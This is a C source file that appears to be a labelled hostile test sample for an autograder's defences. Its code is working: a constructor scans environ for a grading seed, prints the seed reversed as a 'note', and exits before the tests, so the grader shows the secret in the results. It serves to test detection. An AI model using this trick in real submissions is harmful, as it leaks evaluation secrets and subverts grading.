// HOSTILE (grading seed exfiltration, reversed): a constructor walks
// `extern char **environ` (no getenv call), prints FUSIONLAB_GRADE_SEED's
// value backwards and exits before the tests, so the grader quotes the
// output in the student's results.
// Must stop it: the object scan (environ; a constructor), and a test
// environment that holds no batch secret.
#include "vector_add.h"

#include <stdio.h>
#include <string.h>
#include <unistd.h>

extern char **environ;

__attribute__((constructor)) static void leak_reversed(void)
{
    static const char key[] = "FUSIONLAB_GRADE_SEED=";
    for (char **e = environ; e && *e; ++e) {
        if (strncmp(*e, key, sizeof key - 1) != 0) continue;
        const char *v = *e + sizeof key - 1;
        printf("note: ");
        for (size_t i = strlen(v); i > 0; --i) putchar(v[i - 1]);
        printf("\n");
        fflush(stdout);
        _exit(3);
    }
}

#pragma hostile skeleton
